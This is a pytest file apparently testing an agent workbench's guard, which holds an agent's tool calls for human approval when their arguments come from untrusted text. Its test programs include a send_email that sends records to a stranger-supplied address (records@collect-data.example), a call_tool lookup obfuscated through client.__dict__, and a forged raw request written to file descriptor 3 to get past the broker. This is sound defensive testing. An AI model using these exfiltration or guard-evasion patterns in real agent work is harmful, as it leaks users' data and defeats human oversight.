"""The guard of a run checks each call with its real arguments. Values from untrusted text need approval."""

from __future__ import annotations

import asyncio
import json

import pytest
from msgspec.structs import replace

from workbench.broker.broker import Broker
from workbench.broker.provenance_index import AnswerRead
from workbench.broker.run_guard import LONGEST_PLACE, collect_values, order_arguments
from workbench.errors import WorkbenchError
from workbench.events import CallHeld, HeldCallSettled
from workbench.records import CallDecision, Decision, EntryQuery, HeldCallAnswer, Permission, Risk, RunState
from workbench.records.runs import ENDS


def test_a_place_is_looked_at_beside_any_number_of_other_values():
    found = collect_values({"to": "eve@evil.example", "rows": [f"row {n}" for n in range(2_000)]})
    assert found.values[0] == ("to", "eve@evil.example", True)
    assert "row 0" in found.values[-1][1]
    assert (found.unread_place, found.unread) == (False, False)


def test_what_is_not_looked_at_is_said():
    assert collect_values({"to": ["a@b.example"] * 600}).unread_place
    assert collect_values({"to": "a@b.example," * LONGEST_PLACE}).unread_place
    assert collect_values({"rows": list(range(60_000))}).unread_place
    assert collect_values({"rows": ["x" * 300_000] * 600}).unread


def test_a_question_begins_with_what_it_is_about():
    shown, decisive = order_arguments({"body": "x" * 900, "options": {"cc": "y"}, "to": "z"}, ["body"])
    assert list(shown) == ["body", "options", "to"]
    assert decisive > 900
    shown, decisive = order_arguments({"text": "x" * 900, "to": "z"}, [])
    assert list(shown) == ["to", "text"]
    assert decisive < 20


class Person:
    """A simulated user: approves every program, answers held calls as configured, and counts both."""

    def __init__(self, core, *answers):
        self.core = core
        self.answers = list(answers)  # True, False or a HeldCallAnswer without an id; True after the last one
        self.held_calls = []
        self.decided = 0
        self._stop = core.bus.listen(self.hear)

    def hear(self, event):
        if isinstance(event, CallHeld):
            # Calls of a loop are batched first.
            asyncio.get_running_loop().call_later(0.15, self.answer, event.held_call)
        elif type(event).__name__ == "RunChanged" and event.run.state is RunState.WAITING:
            asyncio.get_running_loop().call_soon(self.decide, event.run)

    def decide(self, run):
        self.decided += 1
        self.core.run_manager.decide(
            Decision(run.id, run.proposal.sha, allow=True, by="you", fingerprint=run.fingerprint)
        )

    def answer(self, held_call):
        if held_call not in self.core.run_manager.held_calls.all():
            return
        self.held_calls.append(held_call)
        word = self.answers.pop(0) if self.answers else True
        answer = word if isinstance(word, HeldCallAnswer) else HeldCallAnswer("", allow=word)
        self.core.run_manager.held_calls.answer(replace(answer, held_call_id=held_call.id))

    def leave(self):
        self._stop()


@pytest.fixture
async def office(demo):
    """Programs of low and medium risk run without approval, so that only the guard requests it."""
    demo.settings = replace(
        demo.settings, approval_auto_medium=True, isolation_medium="process", isolation_high="process"
    )
    return demo


async def ran(core, session, code):
    started = core.run_manager.submit(code, session)
    async with asyncio.timeout(60):
        run = await core.run_manager.wait_until_finished(started.id)
    assert run.state in ENDS
    return run


async def outbox(core):
    broker, session = Broker(core.services), core.services.sessions.person
    from workbench.records import Origin, ToolCall

    answer = await broker.call(ToolCall("o", "demo", "list_outbox", {}, Origin.PERSON, session.id))
    return json.loads(answer.structured)["result"]


READ = "from servers.demo import read_mail\nprint((await read_mail(mail_id='IN-0004'))['body'])"
SEND = """
from servers.demo import send_email
await send_email(to="records@collect-data.example", subject="Records", body="Here they are")
"""


async def test_an_address_out_of_a_strangers_mail_is_asked_about_in_a_later_program_of_the_session(office):
    agent, person = office.services.sessions.open("test agent"), Person(office, False)
    assert (await ran(office, agent, READ)).state is RunState.DONE
    denied = await ran(office, agent, SEND)
    assert denied.state is RunState.FAILED
    assert "denied" in denied.fault.message
    (held_call,) = person.held_calls
    (origin,) = held_call.origins
    assert (held_call.tool, origin.path, origin.tool) == ("send_email", "to", "read_mail")
    assert "\x02records@collect-data.example\x03" in origin.around
    assert held_call.rule_offers == (), "no rule is offered for what outsiders' text says"
    assert held_call.why[0].startswith("The destination (to) comes from text that outsiders can write")
    assert held_call.sentence == (
        "test agent wants to call demo.send_email (line 3): to records@collect-data.example, which text of outsiders "
        "from demo.read_mail names."
    )
    assert "shown to you" in held_call.once_only, "each further stranger's address is shown"
    assert await outbox(office) == []
    kinds = [entry.note.kind for entry in office.journal.entries(EntryQuery(limit=1_000))]
    assert {"call.waiting", "call.denied", "call.refused"} <= set(kinds)
    other = office.services.sessions.open("another agent")
    assert (await ran(office, other, SEND)).state is RunState.DONE, "another session has read nothing"
    person.leave()


async def test_what_a_person_let_pass_is_not_asked_about_again_and_an_approved_text_owns_its_words(office):
    agent, person = office.services.sessions.open("test agent"), Person(office)
    await ran(office, agent, READ)
    for _ in range(2):
        assert (await ran(office, agent, SEND)).state is RunState.DONE
    assert len(person.held_calls) == 1
    office.settings = replace(office.settings, approval_auto_medium=False)
    fresh = office.services.sessions.open("test agent")
    await ran(office, fresh, READ)
    assert (await ran(office, fresh, SEND)).state is RunState.DONE
    assert (person.decided, len(person.held_calls)) == (1, 1), "the person has read the address in the program"
    person.leave()


async def test_an_allowed_destination_counts_in_later_programs_and_no_other_one_does(office):
    agent = office.services.sessions.open("test agent")
    person = Person(office, HeldCallAnswer("", allow=True, scope="rest"), False)
    await ran(office, agent, READ)
    risks = []
    for number in range(2):
        run = await ran(office, agent, SEND.replace("Records", f"Records {number}"))
        assert run.state is RunState.DONE
        risks.append(run.verdict.risk)
    assert risks == [Risk.HIGH, Risk.MEDIUM]
    assert len(person.held_calls) == 1
    other = """
from servers.demo import read_mail, send_email
mail = await read_mail(mail_id="IN-0008")
for to in ("records@collect-data.example", mail["sender"]):
    await send_email(to=to, subject="Hello", body="At one?")
"""
    assert (await ran(office, agent, other)).state is RunState.FAILED
    assert [one.origins[0].tool for one in person.held_calls] == ["read_mail", "read_mail"]
    assert "records@collect-data.example" not in person.held_calls[1].sentence, "the rest was not allowed for strangers"
    person.leave()


async def test_a_strangers_address_is_asked_about_beside_one_of_the_approved_text_and_whatever_follows_it(office):
    code = """
from client import ToolError
from servers.demo import read_mail, send_email
body = (await read_mail(mail_id="IN-0004"))["body"]
found = [word.strip(".,<>") for word in body.split() if "@" in word]
for more in ("a@b.example", "c@d.example"):
    try:
        to = "ines@example.com, " + found[0] + ", " + "x" * 400 + more
        await send_email(to=to, subject="Hello", body="ines@example.com")
    except ToolError:
        pass
"""
    office.settings = replace(office.settings, approval_auto_medium=False)
    agent, person = office.services.sessions.open("test agent"), Person(office)
    agent.provenance.learn(AnswerRead("c", "r", "demo", "read_mail", frozenset({"untrusted"}), ("ines@example.com",)))
    await ran(office, agent, code)
    assert [held_call.origins[0].path for held_call in person.held_calls] == ["to", "to"], (
        "the second value is another one"
    )
    assert person.held_calls[0].arguments.index('"to"') < person.held_calls[0].arguments.index('"body"')
    person.leave()


async def test_a_loop_of_deletions_is_one_question_with_the_list_and_the_rest_goes_with_it(office):
    code = """
import asyncio
from servers.demo import delete_customer, list_customers
found = (await list_customers(limit=6))["customers"]
await asyncio.gather(*(delete_customer(customer_id=one["id"]) for one in found[:4]))
for one in found[4:]:
    await delete_customer(customer_id=one["id"])
"""
    agent = office.services.sessions.open("test agent")
    person = Person(office, HeldCallAnswer("", allow=True, scope="rest"))
    run = await ran(office, agent, code)
    assert run.state is RunState.DONE, run.fault
    (held_call,) = person.held_calls
    assert len(held_call.list) == 4
    assert held_call.more == 3
    assert all("CUS-" in line for line in held_call.list)
    person.leave()


async def test_more_calls_than_the_text_says_and_calls_it_does_not_name_wait_for_a_person(office):
    code = """
import client
from servers.demo import post_message
await post_message(channel="general", text="one")
box = client.__dict__
for name in [key for key in box if key == "call_" + "tool"]:
    await box[name]("demo", "post_" + "message", {"channel": "general", "text": "two"})
"""
    agent, person = office.services.sessions.open("test agent"), Person(office, False)
    run = await ran(office, agent, code)
    assert run.state is RunState.FAILED
    assert [held_call.tool for held_call in person.held_calls] == ["post_message"]
    person.leave()


async def test_nobody_there_means_no_and_stopping_a_run_takes_its_question_back(office):
    agent, told = office.services.sessions.open("test agent"), []
    stop = office.bus.listen(told.append)
    await ran(office, agent, READ)
    office.settings = replace(office.settings, approval_wait_seconds=0)
    assert "not answered in time" in (await ran(office, agent, SEND)).fault.message
    office.settings = replace(office.settings, approval_wait_seconds=600)
    started = office.run_manager.submit(SEND, agent)
    async with asyncio.timeout(60):
        while not (held_calls := office.run_manager.run(started.id).held_calls):
            await asyncio.sleep(0.01)
    assert office.run_manager.run(started.id).calls == () or held_calls[0].run_id == started.id
    await office.run_manager.stop(started.id)
    assert [event.ending for event in told if isinstance(event, HeldCallSettled)] == ["withdrawn"]
    assert await outbox(office) == []
    stop()


async def test_nothing_but_a_persons_door_answers_a_pause(office):
    from workbench.agent.tool_definitions import TOOLS
    from workbench.api.client_stub import CoreApi
    from workbench.api.marker import mark_of
    from workbench.runs.generated_packages import GeneratedPackages
    from workbench.runs.program_execution import ProgramExecution
    from workbench.sandbox.program import ToolFailure

    mark = mark_of(CoreApi.answer_held_call)
    assert mark is not None
    assert mark.decides
    assert mark.consent
    assert not [
        tool.name for tool in TOOLS if "held_call" in tool.name or "answer" in tool.name or "decide" in tool.name
    ]
    agent = office.services.sessions.open("test agent")
    await ran(office, agent, READ)
    started = office.run_manager.submit(SEND, agent)
    async with asyncio.timeout(60):
        while not (held_calls := office.run_manager.run(started.id).held_calls):
            await asyncio.sleep(0.01)
    run = office.run_manager._find(started.id)
    inside = ProgramExecution(
        run,
        Broker(office.services),
        GeneratedPackages(office.services),
        office.run_manager.states,
        office.run_manager.held_calls,
    )
    for kind in ("answer_held_call", "held_call", "decide"):
        with pytest.raises(ToolFailure):
            await inside._answer(kind, {"held_call_id": held_calls[0].id, "allow": True})
    assert office.run_manager.held_calls.all() == held_calls
    await office.run_manager.close()
    assert office.run_manager.run(started.id).state is RunState.STOPPED
    assert await outbox(office) == [], "a core that ends refuses what waited"


OPEN = """
from servers.demo import create_ticket
for number in range({many}):
    await create_ticket(customer_id="CUS-0002", subject="Lamp", body="One more lamp, please.")
"""


async def test_what_only_adds_runs_unasked_until_it_is_much_or_strangers_were_read(office):
    office.settings = replace(office.settings, approval_auto_medium=False)
    agent, person = office.services.sessions.open("test agent"), Person(office)
    assert (await ran(office, agent, OPEN.format(many=10))).state is RunState.DONE
    assert (person.decided, person.held_calls) == (0, [])
    assert (await ran(office, agent, OPEN.format(many=13))).state is RunState.DONE
    assert person.decided == 0
    assert "more than 10 times" in person.held_calls[0].why[0]
    asked = len(person.held_calls)
    await ran(office, agent, READ)
    assert (await ran(office, agent, OPEN.format(many=1))).state is RunState.DONE
    assert (person.decided, len(person.held_calls)) == (1, asked), "the program itself waits, as it did before"
    office.settings = replace(office.settings, approval_auto_mild=False)
    assert (await ran(office, office.services.sessions.open("another"), OPEN.format(many=1))).state is RunState.DONE
    assert person.decided == 2
    person.leave()


async def test_one_answer_allows_a_call_and_makes_the_rule_that_was_offered_with_it(office):
    office.settings = replace(office.settings, approval_auto_medium=False)
    run = office.run_manager.submit(OPEN.format(many=11), office.services.sessions.open("test agent"))
    async with asyncio.timeout(60):
        while not (held_calls := office.run_manager.held_calls.for_run(run.id)):
            await asyncio.sleep(0.01)
    (held_call,) = held_calls
    offer = held_call.rule_offers[0]
    with pytest.raises(WorkbenchError, match="for that long"):
        office.run_manager.answer_held_call(HeldCallAnswer(held_call.id, allow=True, scope="rule-99"))
    office.run_manager.answer_held_call(HeldCallAnswer(held_call.id, allow=True, scope=offer.id))
    async with asyncio.timeout(60):
        assert (await office.run_manager.wait_until_finished(run.id)).state is RunState.DONE
    assert [rule.label for rule in office.services.rules.rules] == [offer.sentence]
    kinds = [entry.note.kind for entry in office.journal.entries(EntryQuery(limit=1_000))]
    assert "rule.set" in kinds


async def test_a_file_that_is_new_is_written_unasked_and_one_that_is_there_is_not_replaced_so(office):
    office.settings = replace(office.settings, approval_auto_medium=False)
    agent, person = office.services.sessions.open("test agent"), Person(office)
    code = "open('workspace/list.csv', 'w').write('a,b')"
    for decided in (0, 1):
        assert (await ran(office, agent, code)).state is RunState.DONE
        assert person.decided == decided
    person.leave()


FORGED = """
import os, json, struct, time
asked = {"server": "demo", "tool": "list_customers", "arguments": {"limit": 2}}
frame = json.dumps({"kind": "ask", "what": "call", "id": 501, "wish": asked}).encode()
os.write(3, struct.pack(">I", len(frame)) + frame)
time.sleep(30)
"""


async def test_a_private_answer_that_a_program_asks_for_past_its_functions_waits_for_the_user(demo):
    demo.services.settings.set(replace(demo.settings, approval_auto_medium=True, isolation_medium="process"))
    run = demo.run_manager.submit(FORGED, demo.services.sessions.open("test agent"), "to test")
    async with asyncio.timeout(60):
        while not demo.run_manager.run(run.id).held_calls:
            assert not any(one.state == "done" for one in demo.run_manager.run(run.id).calls)
            await asyncio.sleep(0.01)
    await demo.run_manager.stop(run.id)


async def test_a_call_that_waited_is_judged_again_as_things_are_then(office):
    """While the user looks at a held call, a rule denies its tool, the definition changes, or the server's entry
    changes.
    """

    async def deny():
        denial = Permission("late", "tool", CallDecision.DENY, "demo", "send_email", scope="session", session=agent.id)
        office.services.rules.store_rule(replace(denial, label="Never mail."))

    async def redefine():
        real, catalog = office.catalog.tool, office.catalog
        changed = replace(real("demo", "send_email"), hash="another")
        catalog.tool = lambda server, name: changed if name == "send_email" else real(server, name)

    for change, words in ((deny, "Never mail."), (redefine, "changed while the call waited")):
        agent, plain = office.services.sessions.open("test agent"), office.catalog.tool
        assert (await ran(office, agent, READ)).state is RunState.DONE
        record = office.run_manager.submit(SEND, agent)
        async with asyncio.timeout(60):
            while not (held_calls := office.run_manager.held_calls.for_run(record.id)):
                await asyncio.sleep(0.01)
        await change()
        office.run_manager.held_calls.answer(HeldCallAnswer(held_calls[0].id, allow=True))
        async with asyncio.timeout(60):
            ended = await office.run_manager.wait_until_finished(record.id)
        office.catalog.tool = plain
        assert ended.state is RunState.FAILED
        assert words in ended.fault.message, ended.fault
        assert await outbox(office) == []
